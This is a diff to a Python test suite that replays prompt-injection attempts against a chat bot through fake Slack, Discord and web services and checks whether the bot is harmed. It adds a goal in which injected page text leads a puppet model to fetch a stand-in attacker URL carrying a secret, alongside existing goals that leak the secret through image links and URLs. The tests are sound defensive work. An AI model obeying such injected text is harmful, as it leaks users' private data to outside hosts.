@@ -3,7 +3,8 @@
 import json
 import re
 from collections import Counter
-from collections.abc import Sequence
+from collections.abc import AsyncGenerator, Sequence
+from contextlib import asynccontextmanager
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any, assert_never
@@ -13,19 +14,21 @@ import pytest
 from agent.messages import Keep
 from agent.ports import ToolEffect
 from bot.caches import MAX_AGE_S
+from bot.texts import reply_texts
 from tests.fakes import discord_bot, slack_bot
-from tests.fakes.discord_gateway import running_discord
+from tests.fakes.discord_gateway import FakeDiscord, running_discord
 from tests.fakes.discord_world import ANN, BOT
 from tests.fakes.fast_clock import MovedClock
 from tests.fakes.slack import FakeSlack
 from tests.fakes.slack_things import BOT_USER, FakeMessage
 from tests.fakes.store import StoredTurn, store_in_memory
+from tests.fakes.web_world import WebWorld, answer, web_world
 from tests.injection.attempts import ATTEMPTS, Attempt, Goal, Mechanism, Source, Where, mechanisms, rows
-from tests.injection.world import EVIL, LOOKED_UP, SECRET, Bot, Call, Puppet, Tooled
+from tests.injection.world import EVIL, EVIL_HOST, LOOKED_UP, PAGE, SECRET, Bot, Call, Puppet, Tooled
 
 ME = f"<@{BOT_USER}>"
 BOAT = f"My boat is called {SECRET}."
-PAGE = Path(__file__).parents[2] / "docs" / "security.md"
+TOLD = Path(__file__).parents[2] / "docs" / "security.md"
 PING = re.compile(r"<!(?:channel|here|everyone)|<@U\w+>|@everyone|@here")
 HIDDEN = re.compile(rf"\]\(\s*<?[^)\s]*{SECRET}|<https?:[^>|]*{SECRET}[^>]*\|")
 ACTING = (Goal.ACT, Goal.ACT_LATER, Goal.DESTROY)
@@ -99,7 +102,7 @@ class Stage:
         return f"<https://fake.slack.com/archives/{message.channel}/p{message.ts.replace('.', '')}{thread}>"
 
 
-def bot_for(attempt: Attempt, off: Mechanism | None) -> Bot:
+def bot_for(attempt: Attempt, off: Mechanism | None, web: WebWorld) -> Bot:
     """What the text has the puppet do, and the tools that it needs for that."""
     goal, lookup = attempt.goal, Tooled("lookup")
     calls, words = _deeds(attempt)
@@ -114,8 +117,7 @@ def bot_for(attempt: Attempt, off: Mechanism | None) -> Bot:
         tools.append(Tooled("act", effect=effect))
     match attempt.source:
         case Source.PAGE:
-            tools.append(Tooled("read_page", attempt.text, for_all=True))
-            opening = [("read_page", {})]
+            opening = [("web_fetch", {"url": PAGE})]
         case Source.RESULT:
             lookup.says, opening = f"{lookup.says} {attempt.text}", [("lookup", {})]
             calls = [one for one in calls if one[0] != "lookup"]
@@ -129,7 +131,7 @@ def bot_for(attempt: Attempt, off: Mechanism | None) -> Bot:
         case _:
             pass
     puppet = Puppet(attempt, calls, words, opening)
-    return Bot(store_in_memory(), MovedClock(), attempt, off, puppet, tools, others, instructions=attempt.text)
+    return Bot(store_in_memory(), MovedClock(), attempt, off, puppet, tools, others, attempt.text, web)
 
 
 def _deeds(attempt: Attempt) -> tuple[list[Call], str]:
@@ -157,6 +159,8 @@ def _deeds(attempt: Attempt) -> tuple[list[Call], str]:
             return [], f"![the logo]({EVIL}/logo.png?q=SEEN)"
         case Goal.UNFOLD:
             return [], f"{EVIL}/?q=SEEN"
+        case Goal.FETCH:
+            return [("web_fetch", {"url": f"http://{EVIL_HOST}/?q=SEEN"})], "Done."
         case Goal.TAKE:
             return [(attempt.text, GIVEN[attempt.text])], "Done."
         case Goal.FORGE | Goal.OBEY:
@@ -165,9 +169,19 @@ def _deeds(attempt: Attempt) -> tuple[list[Call], str]:
             assert_never(attempt.goal)
 
 
+@asynccontextmanager
+async def web_of(attempt: Attempt) -> AsyncGenerator[WebWorld]:
+    """With the page that the text may stand in, and the one by which something is carried out."""
+    served = {
+        PAGE.removeprefix("http://"): answer(attempt.text.encode()),
+        f"{EVIL_HOST}/?q={SECRET}": answer(b"Thanks."),
+    }
+    async with web_world(served) as web:
+        yield web
+
+
 async def on_slack(attempt: Attempt, off: Mechanism | None) -> Result:
-    bot = bot_for(attempt, off)
-    async with FakeSlack(bot.clock) as slack:
+    async with web_of(attempt) as web, FakeSlack((bot := bot_for(attempt, off, web)).clock) as slack:
         stage, host = Stage(slack, bot), bot.host()
         async with slack_bot.serving(slack, host), host.turns.serving():
             return await _played(stage, attempt)
@@ -193,7 +207,7 @@ async def _played(stage: Stage, attempt: Attempt) -> Result:
     return Result(puppet.has_read, _is_harmed(stage, attempt.goal, where, facts))
 
 
-CARRIED = (Goal.LINK, Goal.PATH, Goal.IMAGE, Goal.UNFOLD)
+CARRIED = (Goal.LINK, Goal.PATH, Goal.IMAGE, Goal.UNFOLD, Goal.FETCH)
 
 
 async def _before(stage: Stage, goal: Goal) -> None:
@@ -232,7 +246,9 @@ async def _brought(stage: Stage, attempt: Attempt, thread: str) -> tuple[str, li
             return "What does the file say?", [stage.slack.upload("notes.txt", text.encode())]
         case Source.FILE_NAME:
             return "What does the file say?", [{**stage.slack.upload("notes.txt", b"Nothing."), "name": text}]
-        case Source.PAGE | Source.RESULT | Source.DESCRIPTION | Source.TOPIC | Source.SHADOW:
+        case Source.PAGE:
+            return f"What does <{PAGE}> say?", []
+        case Source.RESULT | Source.DESCRIPTION | Source.TOPIC | Source.SHADOW:
             pass
         case _:
             assert_never(attempt.source)
@@ -269,6 +285,8 @@ def _is_harmed(stage: Stage, goal: Goal, where: str, facts: int) -> bool:
             return not all(fact.is_valid for fact in store.facts_kept)
         case Goal.PING | Goal.LINK | Goal.PATH | Goal.IMAGE | Goal.UNFOLD:
             return _is_carried(goal, as_sent(bot, stage.shown(where)))
+        case Goal.FETCH:
+            return _was_fetched(bot)
         case Goal.FORGE | Goal.OBEY:
             return bot.puppet.has_obeyed
         case Goal.TAKE:
@@ -277,6 +295,10 @@ def _is_harmed(stage: Stage, goal: Goal, where: str, facts: int) -> bool:
             raise AssertionError("it shows later")
         case _:
             assert_never(goal)
+
+
+def _was_fetched(bot: Bot) -> bool:
+    return bot.web is not None and any(SECRET in request for request in bot.web.requests)
 
 
 def as_sent(bot: Bot, shown: list[Sent]) -> list[Sent]:
@@ -294,13 +316,12 @@ def _is_carried(goal: Goal, sent: list[Sent]) -> bool:
 
 
 async def on_discord(attempt: Attempt, off: Mechanism | None) -> Result:
-    bot = bot_for(attempt, off)
-    bot.puppet.obeys = True
-    async with running_discord(bot.clock) as fake:
+    async with web_of(attempt) as web, running_discord((bot := bot_for(attempt, off, web)).clock) as fake:
+        bot.puppet.obeys = True
         host = bot.host()
         async with discord_bot.serving(fake, host), host.turns.serving():
-            await fake.say(ANN, f"<@{BOT}> What is new? {BOAT}")
-            await fake.until(lambda: [turn.state for turn in bot.store.turns] == ["done"])
+            await fake.say(ANN, f"<@{BOT}> What is new at {PAGE} ? {BOAT}")
+            await fake.until(lambda: any(is_over(turn) for turn in bot.store.turns) or _asks(fake))
         bodies = [call.body for call in fake.calls if call.body and "content" in call.body]
     shown = [
         Sent(
@@ -311,7 +332,15 @@ async def on_discord(attempt: Attempt, off: Mechanism | None) -> Result:
         for one in bodies
     ]
     assert shown
+    if attempt.goal is Goal.FETCH:
+        return Result(bot.puppet.has_read, _was_fetched(bot))
     return Result(bot.puppet.has_read, _is_carried(attempt.goal, as_sent(bot, shown)))
+
+
+def _asks(fake: FakeDiscord) -> bool:
+    """Whether the bot has written that it waits for a word."""
+    waits = reply_texts.WAITS_FOR_CONSENT.format(tools="`web_fetch`")
+    return any(waits in str(call.body) for call in fake.calls)
 
 
 SUPPRESS_EMBEDS = 1 << 2
@@ -332,7 +361,7 @@ async def test_without_what_stops_it_it_succeeds(attempt: Attempt) -> None:
 
 
 def test_the_page_holds_the_whole_table() -> None:
-    told = [line for line in PAGE.read_text(encoding="utf-8").splitlines() if line.startswith("| ")]
+    told = [line for line in TOLD.read_text(encoding="utf-8").splitlines() if line.startswith("| ")]
     assert [line for line in told if line.split()[1].isdecimal()] == [*rows()]
     assert {*mechanisms()} <= {*told}
 
